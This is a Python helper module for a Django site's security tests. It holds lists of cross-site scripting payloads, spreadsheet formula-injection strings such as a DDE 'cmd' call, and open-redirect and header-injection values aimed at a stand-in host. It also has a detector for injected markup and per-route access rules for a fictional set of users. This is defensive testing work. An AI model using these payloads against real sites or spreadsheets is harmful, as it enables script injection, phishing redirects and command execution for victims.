"""Helpers of the attack tests: all routes of the site, attack payloads, and pages parsed as by a browser."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from copy import copy
from dataclasses import dataclass, field
from datetime import timedelta
from functools import cache
from typing import Any
from urllib.parse import urlsplit

from django.apps import apps
from django.db import connection
from django.db import models as columns
from django.test import Client
from django.test.client import ClientHandler
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from selectolax.lexbor import LexborHTMLParser

from samsvar.ids import hash_content
from samsvar.implementation.measures import AnswerScope
from samsvar.monitoring.report import Strength
from samsvar.network.consent import LegalBasis, Purpose, Visibility
from samsvar.network.people import Field
from samsvar.network.rights import Claim, Role
from samsvar.site.convention.actions import load_convention
from samsvar.site.exchange import models as exchange
from samsvar.site.following.models import Follow
from samsvar.site.implementation import models as models_of_implementation
from samsvar.site.implementation.evidence.actions import EVIDENCE_PREFIX
from samsvar.site.implementation.measures import actions as measures
from samsvar.site.implementation.models import MeasureImport
from samsvar.site.implementation.rooms import actions as room_actions
from samsvar.site.meetings.models import NetworkingOptIn
from samsvar.site.monitoring import models as monitoring
from samsvar.site.monitoring.actions import proposals, publishing, reviews, samples
from samsvar.site.monitoring.actions.remarks import remark_on_label
from samsvar.site.monitoring.review.queries import SampleFilters
from samsvar.site.network import models
from samsvar.site.shell.uploads import store_private_file
from tests.factories.asks import make_ask
from tests.factories.exchange_introductions import make_exchange_to_visit
from tests.factories.exchange_practices import make_practices_to_visit
from tests.factories.figures import enter, publish, shared_indicator
from tests.factories.funding import make_activity
from tests.factories.implementation import make_bulk_edit, make_duty, make_evidence, make_measure, make_room
from tests.factories.meetings import (
    make_commitment_and_survey,
    make_contribution,
    make_meeting,
    make_registration,
    make_session,
    publish_programme,
)
from tests.factories.people import make_account, make_membership, make_network, make_person, sign_in
from tests.factories.reports import make_finding, make_reading, make_report
from tests.factories.reports_back import make_draft, make_edited_file, make_submission


@dataclass(frozen=True, slots=True)
class Route:
    """A URL pattern of the site."""

    name: str  # with its namespaces; the pattern itself if the route has no name
    pattern: str
    parameters: tuple[str, ...]
    view: Callable[..., Any]

    def address(self, **kwargs: Any) -> str:
        """Return the route's English URL. For the few without a name, which take no parameters, it is the pattern."""
        return reverse(self.name, kwargs=kwargs) if self.name != self.pattern else f"/{self.pattern}"


def routes() -> list[Route]:
    """Return every route of the site, through all `include`s."""
    return sorted(_walk_patterns(get_resolver(), "", "", ()), key=lambda route: route.name)


def _walk_patterns(resolver: URLResolver, names: str, before: str, above: tuple[str, ...]) -> Iterator[Route]:
    for one in resolver.url_patterns:
        pattern = before + str(one.pattern)
        parameters = (*above, *one.pattern.converters, *_regex_groups(one))
        if isinstance(one, URLResolver):
            inside = f"{names}{one.namespace}:" if one.namespace else names
            yield from _walk_patterns(one, inside, pattern, parameters)
        elif isinstance(one, URLPattern):
            yield Route(f"{names}{one.name}" if one.name else pattern, pattern, parameters, one.callback)


def _regex_groups(one: Any) -> tuple[str, ...]:
    regex = getattr(one.pattern, "regex", None)
    known = one.pattern.converters
    return tuple(name for name in regex.groupindex if name not in known) if regex is not None else ()


# --- Forms on pages ---------------------------------------------------------------------------------------------------

MARKER = "zqxss"  # in every payload, so that it can be found again on a page

# Each tries to become an element, an attribute or a handler. From public collections of payloads that have worked.
PAYLOADS = tuple(
    payload.replace("MARK", MARKER)
    for payload in (
        "<script>MARK()</script>",
        "<SCRIPT SRC=//evil.example/MARK.js></SCRIPT>",
        "<img src=x onerror=MARK()>",
        "<img src=x onerror='MARK()'//",
        '"><img src=x onerror=MARK()>',
        "'><img src=x onerror=MARK()>",
        '" onmouseover="MARK()" x="',
        "' onmouseover='MARK()' x='",
        '" autofocus onfocus=MARK() x="',
        "x onfocus=MARK() autofocus",
        "` onfocus=`MARK()`",
        "<svg onload=MARK()>",
        "<svg/onload=MARK()>",
        "<svg><script>MARK()</script></svg>",
        "<svg><animate onbegin=MARK() attributeName=x dur=1s>",
        "<math><mi xlink:href='javascript:MARK()'>x</mi></math>",
        "<a href='javascript:MARK()'>x</a>",
        "javascript:MARK()",
        "JaVaScRiPt:MARK()",
        "java\tscript:MARK()",
        "data:text/html,<script>MARK()</script>",
        "data:text/html;base64,PHNjcmlwdD56cXhzcygpPC9zY3JpcHQ+#MARK",
        "vbscript:MARK()",
        "</title><script>MARK()</script>",
        "</textarea><script>MARK()</script>",
        "</script><script>MARK()</script>",
        "</style><script>MARK()</script>",
        "--><script>MARK()</script><!--",
        "]]><script>MARK()</script>",
        "<!--<img src='--><img src=x onerror=MARK()>'>",
        "<iframe srcdoc='<script>MARK()</script>'></iframe>",
        "<iframe src=javascript:MARK()></iframe>",
        "<object data=javascript:MARK()></object>",
        "<embed src=javascript:MARK()>",
        "<base href=//evil.example/MARK/>",
        "<meta http-equiv=refresh content='0;url=javascript:MARK()'>",
        "<link rel=stylesheet href=//evil.example/MARK.css>",
        "<style>@import '//evil.example/MARK';</style>",
        "<form action=//evil.example/MARK><button>x</button></form>",
        "<button formaction=javascript:MARK()>x</button>",
        "<input onfocus=MARK() autofocus>",
        "<details open ontoggle=MARK()>x</details>",
        "<video><source onerror=MARK()></video>",
        "<body onload=MARK()>",
        "<marquee onstart=MARK()>x</marquee>",
        "<div style='background:url(javascript:MARK())'>x</div>",
        "<template><script>MARK()</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=MARK()>'>",
        "<x hx-get=//evil.example/MARK hx-trigger=load>x</x>",
        "<x data-hx-on:load=MARK()>x</x>",
        "&lt;script&gt;MARK()&lt;/script&gt;",
        "&#60;script&#62;MARK()&#60;/script&#62;",
        "\\u003cscript\\u003eMARK()\\u003c/script\\u003e",
        "%3Cscript%3EMARK()%3C/script%3E",
        "＜script＞MARK()＜/script＞",
        "<\u202escript>MARK()</script>",
        "<scr\u200bipt>MARK()</scr\u200bipt>",
        "{{ MARK }}{% load x %}",
        "{{ 7|add:MARK }}",
        "${MARK}#{MARK}<%= MARK %>",
        "[MARK](javascript:MARK())",
    )
)

# One payload for every context of a page: text, attribute, script, style, comment, title, textarea and link.
POLYGLOT_PAYLOAD = (
    f"javascript:{MARKER}()//\"'></title></textarea></style></script></noscript>-->"
    f"<img src=x onerror={MARKER}()><svg onload={MARKER}()>\" onfocus={MARKER}() autofocus x='{MARKER}"
)

# Text that a spreadsheet treats as a formula, or as the start of one.
FORMULAS = tuple(
    formula.replace("MARK", MARKER)
    for formula in (
        '=HYPERLINK("//evil.example/MARK")',
        "=cmd|'/C calc'!MARK",
        "+MARK+1",
        "-MARK+1",
        "@SUM(MARK)",
        "\t=MARK",
        "\r=MARK",
        "\n=MARK",
        ";=MARK",
        ",=MARK",
        '"=MARK',
        "'=MARK",
        " =MARK",
        "＝MARK",
        "％MARK",
    )
)

# Addresses to which attackers want to redirect a visitor: on another site, or invalid.
REDIRECT_TARGETS = (
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "////evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "/\t/evil.example/",
    "/\n/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:///evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "//evil.example\\@testserver/",
    "https://testserver@evil.example/",
    "https://testserver.evil.example/",
    "//testserver:80@evil.example",
    "https://evil.example#testserver",
    " //evil.example",
    "/%09/evil.example\r\nSet-Cookie: a=b",
    "ftp://evil.example/",
    "//[::1]/",
    "//0/",
)


ACTIVE_ELEMENTS = ("script", "style", "template", "iframe", "object", "embed", "base")  # which contain no text
ADDRESS_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post"})


def find_injections(page: str) -> list[str]:
    """Return what on a page would run an attacker's code: elements, handlers and addresses that contain the marker."""
    found = []
    tree = LexborHTMLParser(page)
    for node in tree.root.traverse(include_text=False) if tree.root else ():
        for name, value in node.attributes.items():
            if MARKER in name or (name.startswith("on") or "hx-on" in name) or name in {"srcdoc", "style"}:
                found.append(f"<{node.tag} {name}={value or ''!r}>")
            elif name in ADDRESS_ATTRIBUTES and value:
                flat = "".join(value.split()).lower()
                if MARKER in flat and (
                    flat.startswith(("javascript:", "vbscript:", "data:"))
                    or urlsplit(flat).netloc.endswith("evil.example")
                ):
                    found.append(f"<{node.tag} {name}={value!r}>")
        tag = node.tag or ""
        if tag in ACTIVE_ELEMENTS and MARKER in (node.html or ""):
            found.append(f"<{tag}> holds the marker")
        if MARKER in tag:
            found.append(f"<{tag}>")
    return found


# --- The world of the attack tests ------------------------------------------------------------------------------------


@dataclass(slots=True)
class World:
    """Two networks: a person with private data, the staff of both networks, and people without access to that data."""

    clients: dict[str, Client]  # each signed in as far as their role allows; "nobody" is not signed in
    accounts: dict[str, models.Account]
    ids: dict[str, Any]  # the ids of what belongs to "owner", by kind


# The visitors. "owner" has everything; "fellow" is in the same network, "desk" belongs to another country, "abroad" is
# the secretariat of another network. Those with a staff role have a second factor and an open staff session.
STAFF = ("secretariat", "abroad", "administrator", "auditor")
PEOPLE = ("nobody", "reader", "editor", "fellow", "desk", "organiser", *STAFF, "owner", "member")

# The public half of a passkey as a browser registers it, made for these tests; the private half was not kept.
PASSKEY = {
    "id": "eHh4eHh4eHh4eHh4eHh4eA",
    "rawId": "eHh4eHh4eHh4eHh4eHh4eA",
    "type": "public-key",
    "response": {
        "clientDataJSON": (
            "eyJ0eXBlIjogIndlYmF1dGhuLmNyZWF0ZSIsICJjaGFsbGVuZ2UiOiAiQUFBQSIsICJvcmlnaW4iOiAiaHR0cHM6Ly90ZXN0c2VydmVyIn0"
        ),
        "attestationObject": (
            "o2NmbXRkbm9uZWdhdHRTdG10oGhhdXRoRGF0YViU69q3JHqY58lN6TBm0kw4r9mgyimONoS0ersRMfzJ8gBFAAAAAAAAAAAAAAAAAAAA"
            "AAAAAAAAEHh4eHh4eHh4eHh4eHh4eHilAQIDJiABIVggW-XyLfRNoVN8VB-kJrOdc8YGSyqwOUtK8kRgY68iLYoiWCD0dsjMIlu1SnzQ"
            "vverbqOK3SVnZoBKrwK26o34jQ0l4A"
        ),
    },
}
SECRET = "+47 555 01 23"  # the owner's, visible only to the secretariat


def make_browser(session_of: Client | None = None, *, checks: bool = False, **environ: Any) -> Client:
    """Return a new test client, with the cookies of another if one is given; all clients share one Django handler.

    Building the middleware chain for every client would take longer than most responses.
    """
    made = Client(enforce_csrf_checks=checks, **environ)
    made.handler = _client_handler(checks)
    if session_of is not None:
        made.cookies = copy(session_of.cookies)
    return made


@cache
def _client_handler(checks: bool) -> ClientHandler:
    return ClientHandler(enforce_csrf_checks=checks)


def _make_desk_objects(desk: Any) -> dict[str, Any]:
    """Create a plan, a measure, the finding that it answers and a cluster of the desk's own state; return their ids."""
    make_report(
        b"a report on Sudmar", make_reading([make_finding(1, state="XB")], state="XB", reference="GREVIO(2024)9")
    )
    finding = monitoring.Finding.objects.get(state_id="XB", report__document__reference="GREVIO(2024)9")
    measure = make_measure(state="XB")
    plan = measures.save_plan(by=None, state="XB", values={"title": "A plan of Sudmar"}, chapters=["One"])
    answer = measures.link_answer(
        by=None, measure=measure, finding=finding, scope=AnswerScope.PART, part=1, part_text="a part"
    )
    cluster = measures.make_cluster(by=None, state="XB", title="Shelters", findings=[finding])
    return {
        "measure": measure.public_id, "plan": plan.public_id, "desk_finding": finding.public_id, "answer": answer.pk,
        "cluster": cluster.pk, "bulk_edit": make_bulk_edit(make_measure(state="XB"), by=desk),
    }  # fmt: skip


def _make_help_requests(
    member: models.Account, network: models.Network, organisation: models.Organisation
) -> dict[str, Any]:
    """Make a request for help with a reply, and an offer, both of a member; return their ids."""
    request = exchange.HelpRequest.objects.create(
        by=member, network=network, organisation=organisation, state_id="XA", problem="At night", situation="By day",
        shown_as="organisation", part="the night", judgement="Two shifts", translation_language="fr",
        translated_problem="La nuit", translated_situation="Le jour",
    )  # fmt: skip
    request.replies.create(text="We share shifts.", link="https://reply.example/", organisation=organisation)
    offer = exchange.Offer.objects.create(
        by=member, organisation=organisation, state_id="XA", title="A call", text="An hour", help=["call"]
    )
    return {"help_request": request.public_id, "help_offer": offer.public_id}


def _make_practices(organisation: models.Organisation) -> dict[str, Any]:
    """Create practices of the organisation and of another, and praise of the desk's own state; return their ids."""
    report = make_report(
        b"praise of Sudmar",
        make_reading([make_finding(8, state="XB", strength=Strength.WELCOMES)], state="XB", reference="GREVIO(2024)10"),
    )
    return make_practices_to_visit(organisation, desk="XB", praise=report.findings.get())


def make_world() -> World:
    """Create the fictional world of the attack tests."""
    load_convention()
    here, there = make_network("lantern"), make_network("harbour")
    accounts = {
        "reader": make_account(Role.READER),
        "editor": make_account(Role.EDITOR),
        "fellow": make_account(Role.READER),
        "desk": make_account(Role.NATIONAL_DESK, state="XB"),
        "organiser": make_account(Role.ORGANISER, meeting="spring"),
        "secretariat": make_account(Role.SECRETARIAT, network=here),
        "abroad": make_account(Role.SECRETARIAT, network=there),
        "administrator": make_account(Role.ADMINISTRATOR),
        "auditor": make_account(Role.AUDITOR),
        "owner": make_account(Role.READER, Role.EDITOR),
        "member": make_account(Role.READER),
    }
    owner = accounts["owner"]
    consents = (Purpose.DIRECTORY, Purpose.CONTACT)
    persons = {
        name: make_person(
            account=accounts[name],
            visibility=Visibility.SIGNED_IN,
            consents=consents,
            details={Field.NAME: f"Fictional {name.title()}", Field.TITLE: "of the tests"},
        )
        for name in ("owner", "member", "fellow")
    }
    for person in persons.values():
        make_membership(here, person)
    models.Detail.objects.create(person=persons["owner"], field=Field.TELEPHONE, value=SECRET)
    make_membership(there, make_person(account=accounts["reader"]))
    without_account = make_person(details={Field.NAME: "Fictional Newcomer"})
    make_membership(here, without_account)
    report = make_report(
        reading=make_reading(
            [
                make_finding(1),
                make_finding(2, strength=Strength.WELCOMES, articles=("8", "12")),
                make_finding(3),
                make_finding(4, strength=Strength.INVITES),
            ]
        )
    )
    first, second, _third, last = report.findings.all()
    proposal = proposals.propose_correction(finding=first, by=owner, strength="invites", reason="the verb is softer")
    remark = remark_on_label(finding=first, part="strength", comment="Softer", by=accounts["member"])
    follow = Follow.objects.create(account=accounts["member"], kind="country", key="XA", note="A private note")
    reviews.review_finding(finding=second, by=owner, review="confirmed")
    sample = samples.draw_sample(filters=SampleFilters(), by=owner)
    finding_link = monitoring.FindingLink.objects.create(
        later=last, earlier=first, basis="citation", certain=True, similarity=1, later_text="restates",
        decided_by=accounts["editor"], decided_at=timezone.now(), reason="the same words",
    )  # fmt: skip
    declined = proposals.propose_correction(finding=last, by=owner, strength="urges", reason="the verb is stronger")
    proposals.decline_proposal(proposal=declined, by=accounts["editor"], reason="it is not")
    withdrawn = make_report(
        b"a fictional report that was withdrawn", make_reading([make_finding(9)], reference="withdrawn")
    )
    publishing.withdraw_report(report=withdrawn, by=accounts["editor"], reason="the file of another report")
    upload = monitoring.Upload.objects.create(
        uploaded_by=owner, content_hash="0" * 64, filename="unpublished.pdf", size=1, body="grevio", progress="refused"
    )
    waiting = models.MemberQuestion.objects.create(by=owner, to=persons["member"], network=here, subject="A question")
    forwarded = models.MemberQuestion.objects.create(
        by=owner,
        to=persons["member"],
        network=here,
        subject="A question that was forwarded",
        progress=models.MemberQuestion.Progress.FORWARDED,
        handled_by=accounts["secretariat"],
        handled_at=timezone.now(),
    )
    for ask in (waiting, forwarded):
        models.QuestionMessage.objects.create(ask=ask, side="asker", text="What the owner asks")
    invitation = models.Invitation.objects.create(
        token_hash="1" * 64,
        email="invited@network.example",
        network=here,
        invited_by=accounts["secretariat"],
        expires_at=timezone.now() + timedelta(days=3),
    )
    refusal = models.Refusal.objects.create(
        account=owner, claim=Claim.CONTRIBUTE, since=timezone.now(), reason="for a test of attacks"
    )
    organisation = models.Organisation.objects.create(
        public_id="lamp-house", name="Lamp House", kind="shelter_ngo", state_id="XA", fictional=True
    )
    models.RoleGrant.objects.create(account=accounts["member"], role=Role.CONTRIBUTOR, since=timezone.now())
    persons["member"].memberships.update(organisation=organisation)
    measure = make_measure()
    evidence = make_evidence(measure)
    offered_evidence = make_evidence(
        measure, side="civil_society", organisation=organisation, status="offered", filename="a.txt", format="text",
        content_hash=hash_content(b"For Lamp House."),
        stored_hash=store_private_file(EVIDENCE_PREFIX + b"For Lamp House."),
    )  # fmt: skip
    room = make_room(accounts["member"], organisation, report=report)
    room_section = room_actions.add_section(by=accounts["member"], room=room, heading="For the members")
    room_actions.save_section(by=accounts["member"], room=room, section=room_section, text="Only ours", seen=0)
    comment = room_actions.publish_room(by=accounts["member"], room=room)
    seat = models.Seat.objects.create(network=here, organisation=organisation)
    basis = models.Basis.objects.create(
        person=persons["owner"],
        purpose=Purpose.MEETINGS,
        ground=LegalBasis.PUBLIC_TASK,
        since=timezone.now(),
        note="a duty",
    )
    money = make_activity()
    places = shared_indicator("family-places")
    enter(places, 2024, 40, state="XB")
    publish(places, state="XB")
    own_indicator = models_of_implementation.Indicator.objects.create(
        key="own", state_id="XB", titles={"en": "Lamps"}, unit="other", direction="higher"
    )
    make_duty(state="XB")
    report_draft = make_draft(state="XB")  # annexes, of the desk of XB
    edited_file = make_edited_file(report_draft)
    draft_note = report_draft.notes.create(kind="comment", text="Which day?", author_name="Someone")
    report_back = make_draft(report)
    make_submission(report_back)
    body_ask = make_ask(state="XB", email="official@xb.example")  # of the desk of XB
    drafted_ask = make_ask(state="XB", email="official@xb.example", sent=False)
    measure_import = MeasureImport.objects.create(state_id="XB", by=accounts["desk"])
    spring = make_meeting(public_id="spring", network=here)
    paper = spring.documents.create(
        title={"en": "For organisers"},
        access="organisers",
        content_hash=store_private_file(b"samsvar meeting document\nFor organisers."),
        filename="a.txt",
        format="text",
        size=15,
    )
    body = spring.organisations.create(organisation=organisation, role="host")
    link = spring.links.create(kind="article", key="20")
    duty = spring.duties.create(account=accounts["member"], kind="review", until=timezone.now() + timedelta(days=1))
    talk = make_session(spring)
    publish_programme(spring, by=accounts["organiser"])
    promise, asked_of_all = make_commitment_and_survey(spring, session=talk, person=persons["member"])
    contribution = make_contribution(spring, account=owner, person=persons["owner"])
    guest = spring.invitations.create(
        email="guest@network.example", token_hash="2" * 64, expires_at=timezone.now() + timedelta(days=9)
    )
    delegation = spring.delegations.create(state_id="XA", places=2, head=persons["member"], token_hash="3" * 64)
    question = spring.questions.create(text={"en": "What do you eat?"}, delete_on="2099-01-01")
    spring.pseudonyms.create(person=persons["owner"], name="Fictional Pseudonym")
    delegation.registrations.create(
        meeting=spring, nominated_name="Fictional Nominee", status="nominated", token_hash="5" * 64
    )
    registration = spring.registrations.create(person=persons["owner"], status="confirmed", token_hash="4" * 64)
    asker = make_registration(spring)
    # has an account, so can be contacted; others are not listed
    willing = make_registration(spring, account=make_account())
    NetworkingOptIn.objects.create(registration=willing)
    encounter = spring.encounters.create(asker=asker, asked=registration, about="something private")
    letter = spring.issued.create(code="SPRN-GSPR-NGSP", registration=registration, kind="visa", language="en")
    picture = store_private_file(b"a face that the tests fictional")
    models.Photograph.objects.create(
        person=persons["owner"], content_hash=picture, format="webp", width=640, height=640
    )
    models.Detail.objects.create(
        person=persons["owner"], field=Field.PHOTOGRAPH, value=picture, visibility=Visibility.SIGNED_IN
    )
    passkey = apps.get_model("mfa", "Authenticator").objects.create(
        user=owner, type="webauthn", data={"name": "The owner’s passkey", "credential": PASSKEY}
    )
    practices = _make_practices(organisation)
    introduction, adoption = make_exchange_to_visit(accounts["member"], owner, here, practices["published_practice"])
    clients = {"nobody": make_browser()}
    for name, account in accounts.items():
        reason = "the tests of attacks" if name in {"secretariat", "abroad", "administrator"} else ""
        clients[name] = _mark_reauthenticated(sign_in(make_browser(), account, staff_session=reason))
    session = apps.get_model("usersessions", "UserSession").objects.create(
        user=owner, ip="127.0.0.1", session_key=clients["owner"].session.session_key, user_agent="The owner’s browser"
    )
    ids = {
        "public_measure": measure.public_id,
        "evidence": evidence.public_id,
        "offered_evidence": offered_evidence.public_id,
        "room": room.public_id,
        "room_section": room_section.pk,
        "room_member": room.members.get().pk,
        "comment": comment.public_id,
        "person": persons["owner"].public_id,
        "member": persons["member"].public_id,
        "without_account": without_account.public_id,
        "account": owner.public_id,
        "report": report.public_id,
        "finding": report.findings.first().public_id,
        "reviewed_finding": second.public_id,
        "review_change": second.label_changes.last().pk,
        "proposal": proposal.pk,
        "remark": remark.pk,
        "follow": follow.pk,
        "sample": sample.pk,
        "finding_link": finding_link.pk,
        **_make_desk_objects(accounts["desk"]),
        **practices,
        **_make_help_requests(accounts["member"], here, organisation),
        "introduction": introduction.public_id,
        "introduced_request": introduction.request.public_id,
        "adoption": adoption.public_id,
        "withdrawn_report": withdrawn.public_id,
        "upload": upload.pk,
        "waiting": waiting.public_id,
        "forwarded": forwarded.public_id,
        "invitation": invitation.public_id,
        "grant": owner.grants.first().pk,
        "refusal": refusal.pk,
        "passkey": passkey.pk,
        "session": session.pk,
        "membership": persons["owner"].memberships.get().public_id,
        "network": here.slug,
        "organisation": organisation.public_id,
        "seat": seat.pk,
        "basis": basis.pk,
        "report_draft": report_draft.public_id,
        "edited_file": edited_file.public_id,
        "draft_note": draft_note.pk,
        "report_back": report_back.public_id,
        "body_ask": body_ask.public_id,
        "body_ask_question": body_ask.questions.get().pk,
        "drafted_ask": drafted_ask.public_id,
        "activity": money.activity.slug,
        "money": money.pk,
        "measure_import": measure_import.public_id,
        "indicator": places.key,
        "own_indicator": own_indicator.key,
        "meeting": spring.public_id,
        "meeting_document": paper.public_id,
        "meeting_body": body.pk,
        "meeting_link": link.pk,
        "meeting_duty": duty.pk,
        "contribution": contribution.public_id,
        "meeting_session": talk.public_id,
        "promise": promise.public_id,
        "survey_question": asked_of_all.pk,
        "meeting_guest": guest.public_id,
        "delegation": delegation.public_id,
        "question": question.public_id,
        "registration": registration.public_id,
        "willing": willing.public_id,
        "encounter": encounter.public_id,
        "letter": letter.code,
    }
    return World(clients, accounts, ids)


def _mark_reauthenticated(client: Client) -> Client:
    """Mark the client's sign-in as just confirmed by password, so that only permissions can stop it."""
    session = client.session
    session["account_authentication_methods"] = [
        {**record, "reauthenticated": True} for record in session["account_authentication_methods"]
    ]
    session.save()
    return client


@dataclass(frozen=True, slots=True)
class RouteAccess:
    """The access rule of a route with an id: which object of the world it shows, and who may see it."""

    ids: dict[str, str]  # route parameter: kind of id in the world, or "=value" for a fixed value
    rightful: str = ""  # someone who has access: proof that there is something to steal; "" for public routes
    also: frozenset[str] = field(default_factory=frozenset)  # who else has access
    sent: dict[str, str] = field(default_factory=dict)  # what a POST needs to have an effect, in the form of `ids`


EVERYONE = frozenset(PEOPLE)
SIGNED_IN = EVERYONE - {"nobody"}
READERS = SIGNED_IN - {"administrator", "auditor"}  # those who may read the directory


def _public(**ids: str) -> RouteAccess:
    return RouteAccess(ids, also=EVERYONE)


def _only_for(rightful: str, *also: str, sent: dict[str, str] | None = None, **ids: str) -> RouteAccess:
    return RouteAccess(ids, rightful, frozenset(also), sent or {})


# Every route with an id. A test fails for a route without an entry here, and for an entry without a route.
ROUTE_ACCESS: dict[str, RouteAccess] = {
    # public: published content
    "files:cite": _public(public_id="finding", form="=bib"),
    "files:page-picture": _public(public_id="report", page="=1"),
    "files:report": _public(public_id="report"),
    "monitoring:finding": _public(public_id="finding"),
    "implementation:story": _public(public_id="finding"),
    "implementation:figures": _public(code="=XB"),
    "implementation:all-figures-table": _public(code="=XB", form="=csv"),
    "implementation:indicator": _public(code="=XB", name="indicator"),
    "implementation:figures-table": _public(code="=XB", name="indicator", form="=csv"),
    "implementation:figures-to-fill": _only_for("desk", code="=XB"),
    "implementation:add-indicator": _only_for("desk", code="=XB"),
    "implementation:edit-indicator": _only_for("desk", code="=XB", name="own_indicator"),
    **{
        f"implementation:{name}": _only_for("desk", code="=XB", name="indicator")
        for name in ("enter-figures", "figures-template", "import-figures", "publish-figures")
    },
    "implementation:duties": _public(code="=XA"),
    "implementation:duties-calendar": _public(code="=XA"),
    "implementation:record-duty": _only_for("desk", code="=XB", procedure="=baseline", kind="=report_back"),
    "implementation:remove-duty": _only_for("desk", code="=XB", procedure="=baseline", kind="=report_back"),
    "implementation:end-digest": _public(token="=wrong"),
    "following:follow": _only_for("reader", *SIGNED_IN, kind="=country", public_id="=XA"),
    "following:change": _only_for("member", pk="follow"),
    "following:stop": _only_for("member", pk="follow"),
    "following:end-digest": _public(token="=wrong"),
    "following:feed": _public(kind="=country", public_id="=XA"),
    "monitoring:report-label": _public(public_id="finding"),
    **{f"implementation:published-report{form}": _public(public_id="report_back") for form in ("", "-docx", "-json")},
    # the drafts of a state's desk
    **{f"implementation:{name}": _only_for("desk", code="=XB") for name in ("report-drafts", "new-report-draft")},
    **{
        f"implementation:{name}": _only_for("desk", code="=XB", public_id="report_draft")
        for name in (
            "report-draft",
            "report-draft-docx",
            "upload-report-draft",
            "mark-report-written",
            "return-report",
            "clear-report",
            "submit-report",
            "publish-report",
            "new-report-version",
        )
    },
    **{
        f"implementation:{name}": _only_for("desk", code="=XB", public_id="report_draft", section_id="=s1")
        for name in ("report-section", "take-newer-records")
    },
    **{
        f"implementation:{name}": _only_for("desk", code="=XB", public_id="report_draft", file_id="edited_file")
        for name in ("edited-report-draft", "discard-report-draft")
    },
    "implementation:finish-note": _only_for("desk", code="=XB", public_id="report_draft", pk="draft_note"),
    "implementation:state-evidence": _public(code="=XA"),
    "implementation:measure-evidence": _public(public_id="public_measure"),
    "implementation:finding-evidence": _public(public_id="finding"),
    "implementation:published-comment": _public(public_id="comment"),
    # evidence that its side has not released, and a room: those who represent the organisation
    "implementation:offer-for-measure": _only_for("member", public_id="public_measure"),
    "implementation:offer-for-finding": _only_for("member", public_id="finding"),
    "implementation:set-aside-for-form": _only_for("editor", "owner", public_id="evidence"),
    **{
        f"implementation:{name}": _only_for("member", public_id="offered_evidence")
        for name in (
            "evidence",
            "evidence-file",
            "accept-evidence",
            "set-evidence-aside",
            "withdraw-evidence",
            "revise-evidence",
        )
    },
    **{
        f"implementation:{name}": _only_for("member", public_id="room")
        for name in (
            "room",
            "room-outline",
            "room-members",
            "room-docx",
            "room-markdown",
            "publish-room",
            "withdraw-comment",
            "delete-room",
        )
    },
    "implementation:room-section": _only_for("member", public_id="room", pk="room_section"),
    "implementation:delete-room-section": _only_for("member", public_id="room", pk="room_section"),
    "implementation:remove-room-member": _only_for("member", public_id="room", pk="room_member"),
    # introductions: their two sides' and the helpdesk's of the network; adoptions: those who adopt
    **{
        f"exchange:{name}": _only_for("member", "owner", "secretariat", public_id="introduction")
        for name in ("introduction", "introduction-held", "introduction-not-held")
    },
    **{
        f"exchange:{name}": _only_for("member", "owner", public_id="introduction")
        for name in ("accept-introduction", "leave-introduction", "introduction-outcome")
    },
    **{
        f"exchange:{name}": _only_for("secretariat", public_id="introduction")
        for name in ("choose-helper", "invite-introduction", "drop-introduction")
    },
    "exchange:propose-introduction": _only_for("secretariat", public_id="introduced_request"),
    "exchange:ask-for-introduction": _only_for("member", public_id="introduced_request"),
    "meetings:meeting-from-introduction": _only_for("secretariat", public_id="introduction"),
    "exchange:adoption": _public(public_id="adoption"),
    "exchange:adopt-practice": _only_for("desk", public_id="published_practice"),
    "exchange:edit-adoption": _only_for("desk", public_id="adoption"),
    "exchange:adoption-step": _only_for("desk", public_id="adoption"),
    "exchange:confirm-adoption": _only_for("member", public_id="adoption"),
    "monitoring:report": _public(public_id="report"),
    "monitoring:text": _public(public_id="report"),
    "monitoring:report-details": _only_for("editor", "owner", public_id="report"),
    "monitoring:undecided-links": _only_for("editor", "owner", public_id="report"),
    "monitoring:publish-report": _only_for("editor", "owner", public_id="report"),
    "monitoring:withdraw-report": _only_for("editor", "owner", public_id="report"),
    "monitoring:delete-draft": _only_for("editor", "owner", public_id="report"),
    "exchange:destinations": _public(code="=XB"),
    "exchange:achievement": _public(kind="=asked"),
    # practices: their owner's, those that a peer or the secretariat reads in review, and the praise of a state
    "exchange:practice": _public(public_id="published_practice"),
    "exchange:practice-version": _public(public_id="published_practice", number="=1"),
    **{
        f"exchange:{name}": _only_for("member", public_id="practice")
        for name in (
            "own-practice",
            "edit-practice",
            "add-practice-text",
            "submit-practice",
            "revise-practice",
            "confirm-practice",
            "reopen-practice",
            "delete-practice",
        )
    },
    "exchange:edit-practice-text": _only_for("member", public_id="practice", language="=fr"),
    "exchange:delete-practice-text": _only_for("member", public_id="practice", language="=fr"),
    "exchange:review-practice": _only_for("member", public_id="practice_in_review"),
    "exchange:publish-practice": _only_for("secretariat", "abroad", public_id="practice_in_review"),
    "exchange:send-practice-back": _only_for("secretariat", "abroad", public_id="practice_in_review"),
    "exchange:retire-practice": _only_for("member", "secretariat", "abroad", public_id="published_practice"),
    "exchange:practice-leads": _only_for("desk", code="=XB"),
    "exchange:decide-lead": _only_for("desk", code="=XB", finding="praise"),
    "exchange:withdraw-lead-decision": _only_for("desk", code="=XB", finding="praise"),
    # requests for help: members of the network see them, their asker and its helpdesk act on them; and offers
    "exchange:ask-about": _only_for("member", "editor", "desk", "secretariat", "abroad", kind="=article", about="=24"),
    "exchange:request": _only_for("member", "owner", "fellow", public_id="help_request"),
    **{
        f"exchange:{name}": _only_for("member", public_id="help_request")
        for name in ("judge-request", "request-counts", "withdraw-request", "reopen-request")
    },
    "exchange:enter-request": _only_for("secretariat", network="network"),
    **{
        f"exchange:{name}": _only_for("secretariat", public_id="help_request")
        for name in ("helpdesk-request", "take-request", "translate-request", "end-request")
    },
    "exchange:offer": _only_for("member", *READERS, public_id="help_offer"),
    "exchange:edit-offer": _only_for("member", public_id="help_offer"),
    "exchange:offer-status": _only_for("member", sent={"status": "=paused"}, public_id="help_offer"),
    # reviewers of findings; what one of them has proposed, drawn or judged is theirs
    "monitoring:propose": _only_for("editor", "owner", public_id="finding"),
